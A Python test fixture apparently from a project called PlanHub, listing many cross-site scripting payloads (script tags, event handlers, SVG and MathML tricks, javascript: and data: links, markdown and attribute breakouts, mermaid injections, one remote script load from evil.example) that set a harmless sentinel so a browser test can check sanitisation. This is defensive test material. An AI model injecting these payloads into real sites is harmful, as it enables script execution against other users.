"""XSS payloads: what a hostile (or careless) member might type into any text PlanHub shows.

Payloads set the sentinel `window.__xss` (or open a dialog with alert/confirm/prompt) when they
run, so the browser test can tell "ran" from "did not run". `browser=True` marks the subset
the Chromium test opens (it covers every family: script, handlers, SVG, links, mermaid).
`literal` is text that must reach the page as text (shown, not interpreted) wherever the
payload is shown as plain text.
"""

import base64
from dataclasses import dataclass

RUN = "window.__xss=1"
DATA_HTML = base64.b64encode(b"<script>parent.__xss=1;alert(1)</script>").decode()
DATA_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss=1"/>'
).decode()


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    browser: bool = False
    literal: str = ""

    @property
    def one_line(self) -> str:
        """For single-line fields (headings, titles, names): newlines become spaces."""
        return self.text.replace("\r", " ").replace("\n", " ")


# fmt: off
PAYLOADS: list[Payload] = [
    # <script> in many spellings.
    Payload("script", f"<script>{RUN}</script>", browser=True),
    Payload("script-upper", f"<SCRIPT>{RUN}</SCRIPT>"),
    Payload("script-alert", "<script>alert(1)</script>", browser=True),
    Payload("script-src-data", f'<script src="data:text/javascript,{RUN}"></script>'),
    Payload("script-src-remote", "<script/src=//evil.example/x.js></script>"),
    Payload("script-nested", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    Payload("script-spaced", f"< script >{RUN}</ script >"),
    Payload("script-unclosed", f"<script>{RUN}"),
    # Event handlers.
    Payload("img-onerror", f'<img src=x onerror="{RUN}">', browser=True),
    Payload("img-onerror-case", f"<IMG SRC=x OnErRoR={RUN}>"),
    Payload("img-slash", f"<img/src/onerror={RUN}>"),
    Payload("img-entity-handler", "<img src=x onerror=&#119;&#105;ndow.__xss&#x3d;1>",
            browser=True),
    Payload("img-unclosed", f"<img src=x onerror={RUN} "),
    Payload("svg-onload", f'<svg onload="{RUN}">', browser=True),
    Payload("svg-onload-unclosed", f"<svg/onload={RUN}"),
    Payload("body-onload", f'<body onload="{RUN}">'),
    Payload("details-ontoggle", f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
            browser=True),
    Payload("video-source-onerror", f'<video><source onerror="{RUN}"></video>'),
    Payload("audio-onerror", f"<audio src=x onerror={RUN}>"),
    Payload("input-autofocus", f"<input autofocus onfocus={RUN}>", browser=True),
    Payload("select-autofocus", f"<select autofocus onfocus={RUN}></select>"),
    Payload("marquee-onstart", f"<marquee onstart={RUN}>m</marquee>"),
    Payload("custom-onclick", f"<x-tag onclick={RUN}>custom tag</x-tag>"),
    Payload("a-onclick", f'<a href="#" onclick="{RUN}">click me</a>', browser=True),
    Payload("a-onmouseover", f'<a href="https://example.com/" onmouseover="{RUN}">hover me</a>',
            browser=True),
    Payload("htmx-on", f'<div hx-on:click="{RUN}" data-hx-on-click="{RUN}">htmx on</div>'),
    Payload("htmx-vals", f"<div hx-get=\"/\" hx-vals='js:{{a:{RUN}}}' hx-trigger=\"load\">x</div>"),
    # SVG and MathML.
    Payload("svg-script", f"<svg><script>{RUN}</script></svg>", browser=True),
    Payload("svg-animate", f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>'),
    Payload("svg-animate-href", f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/>'
            '<text x="20" y="20">svg anim link</text></a></svg>'),
    Payload("svg-xlink", f'<svg><a xlink:href="javascript:{RUN}"><text x="9" y="9">svg link</text>'
            "</a></svg>", browser=True),
    Payload("svg-set", f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>'),
    Payload("svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss=1"
            '</script>"></iframe></foreignObject></svg>'),
    Payload("svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{DATA_SVG}#x"/></svg>'),
    Payload("math-mglyph", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"),
    Payload("math-href", f'<math href="javascript:{RUN}"><mi>math link</mi></math>'),
    Payload("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    # Frames, objects, documents.
    Payload("iframe-js", "<iframe src=\"javascript:parent.__xss=1\"></iframe>", browser=True),
    Payload("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>"),
    Payload("object-data", f'<object data="javascript:{RUN}"></object>'),
    Payload("embed-data", f'<embed src="data:text/html;base64,{DATA_HTML}">'),
    Payload("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">'),
    Payload("base-href", f'<base href="javascript:{RUN}//">'),
    Payload("link-import", f'<link rel="stylesheet" href="javascript:{RUN}">'),
    Payload("form-action", f'<form action="javascript:{RUN}"><button>form go</button></form>'),
    Payload("button-formaction", f'<button formaction="javascript:{RUN}">formaction</button>'),
    Payload("isindex", f"<isindex action=javascript:{RUN} type=image>"),
    Payload("template-script", f"<template><script>{RUN}</script></template>"),
    # Styles.
    Payload("style-expression", f'<div style="width: expression({RUN})">style expr</div>'),
    Payload("style-url", f'<div style="background:url(javascript:{RUN})">style url</div>'),
    Payload("style-tag", f"<style>@import 'javascript:{RUN}';</style>"),
    Payload("td-style", f'<table><tr><td style="background:url(javascript:{RUN})">c</td></tr>'
            "</table>"),
    Payload("table-background", f'<table background="javascript:{RUN}"><tr><td>t</td></tr>'
            "</table>"),
    # Raw HTML links.
    Payload("a-js", f'<a href="javascript:{RUN}">html js link</a>', browser=True),
    Payload("a-entity-js", f'<a href="&#106;avascript:{RUN}">entity js link</a>', browser=True),
    Payload("a-tab-js", f'<a href="jav&#x09;ascript:{RUN}">tab js link</a>'),
    Payload("a-space-js", f'<a href="  javascript:{RUN}">space js link</a>'),
    Payload("a-data", '<a href="data:text/html,<script>alert(1)</script>">html data link</a>'),
    Payload("a-vbscript", '<a href="vbscript:msgbox(1)">vbscript link</a>'),
    # Markdown links and images.
    Payload("md-js", f"[md js link](javascript:{RUN})", browser=True),
    Payload("md-js-case", f"[md case link](JaVaScRiPt:{RUN})", browser=True),
    Payload("md-js-entity", f"[md entity link](&#106;avascript:{RUN})", browser=True),
    Payload("md-js-tab", f"[md tab link](java&#x09;script:{RUN})", browser=True),
    Payload("md-js-colon", f"[md colon link](javascript&colon;{RUN})"),
    Payload("md-js-comment", "[md comment link](javascript://%0Awindow.__xss=1)"),
    Payload("md-data", f"[md data link](data:text/html;base64,{DATA_HTML})", browser=True),
    Payload("md-vbscript", "[md vb link](vbscript:msgbox(1))"),
    Payload("md-image-js", f"![md image](javascript:{RUN})"),
    Payload("md-image-breakout", f'![md image](x" onerror="{RUN})'),
    Payload("md-title-breakout", f'[md title](https://example.com/ "t\\" onmouseover=\\"{RUN}")'),
    Payload("md-html-in-text", f"[<img src=x onerror={RUN}>](https://example.com/)"),
    Payload("md-reference", f"[md ref link][r]\n\n[r]: javascript:{RUN}", browser=True),
    Payload("md-reference-data", "[md ref data][d]\n\n[d]: data:text/html;base64," + DATA_HTML),
    Payload("md-autolink-js", f"<javascript:{RUN}>", browser=True),
    Payload("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    Payload("md-code-span", f"`<script>{RUN}</script>`", literal=f"<script>{RUN}</script>"),
    # Entity obfuscation (must stay text).
    Payload("entity-script", f"&lt;script&gt;{RUN}&lt;/script&gt;"),
    Payload("numeric-entity-script", f"&#60;script&#62;{RUN}&#60;/script&#62;"),
    # Breaking out of comments, textareas, attributes.
    Payload("comment-breakout", f"<!-- --><script>{RUN}</script><!-- -->"),
    Payload("comment-close", f"--><script>{RUN}</script>"),
    Payload("textarea-breakout", f"</textarea><script>{RUN}</script>", browser=True,
            literal="</textarea>"),
    Payload("title-breakout", f"</title><script>{RUN}</script>"),
    Payload("style-breakout", f"</style><script>{RUN}</script>"),
    Payload("attr-breakout", f'"><script>{RUN}</script>', literal='">'),
    Payload("attr-breakout-single", f"'><img src=x onerror={RUN}>", browser=True),
    Payload("attr-inject", f'" autofocus onfocus="{RUN}', literal='" autofocus onfocus="'),
    Payload("css-breakout", f'"; }} </style><script>{RUN}</script> {{ content: "'),
    # Template syntax must stay text.
    Payload("django-template", "{{ 7|add:1 }} {% csrf_token %} {% debug %}",
            literal="{{ 7|add:1 }} {% csrf_token %} {% debug %}"),
    Payload("js-template", "${alert(1)} {{constructor.constructor('alert(1)')()}}",
            literal="${alert(1)}"),
    # Mermaid diagrams (drawn in the browser with securityLevel "strict").
    Payload("mermaid-click", "```mermaid\ngraph TD\n  A[Start] --> B[End]\n"
            "  click A call alert(1)\n  click B href \"javascript:window.__xss=1\"\n```",
            browser=True),
    Payload("mermaid-label-html", "```mermaid\ngraph TD\n"
            '  A["<img src=x onerror=window.__xss=1>"] --> '
            'B["<script>window.__xss=1</script>"]\n'
            "```", browser=True),
    Payload("mermaid-init", "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\n"
            "  A-->B\n  click A call eval(\"window.__xss=1\")\n```", browser=True),
    Payload("mermaid-script", "```mermaid\nsequenceDiagram\n  Alice->>Bob: <script>window.__xss=1"
            "</script>\n  Note right of Bob: <img src=x onerror=window.__xss=1>\n```",
            browser=True),
    Payload("mermaid-raw-div", '<div class="mermaid">graph TD\n'
            "A[\"&lt;img src=x onerror=window.__xss=1&gt;\"]</div>", browser=True),
]
# fmt: on

assert len({p.id for p in PAYLOADS}) == len(PAYLOADS), "payload ids must be unique"
BROWSER_PAYLOADS = [p for p in PAYLOADS if p.browser]
